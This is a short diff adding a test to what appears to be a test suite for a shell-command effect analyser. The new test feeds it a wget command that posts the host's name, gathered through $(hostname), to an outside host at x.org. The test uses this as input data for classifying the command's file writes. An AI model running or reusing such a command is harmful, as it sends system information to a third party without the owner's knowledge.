@@ -84,3 +84,8 @@ describe("an option that no list contains", () => {
     expect(certainties("docker --tlscacert ca rm x")).toEqual(["certain"]);
   });
 });
+
+it("an option whose value has a wildcard is no operand", () => {
+  const { effects } = readShell('wget --post-data="a=$(hostname)" http://x.org/b');
+  expect(effects.flatMap((each) => (each.kind === "write" ? [each.target?.path] : []))).toEqual(["b"]);
+});
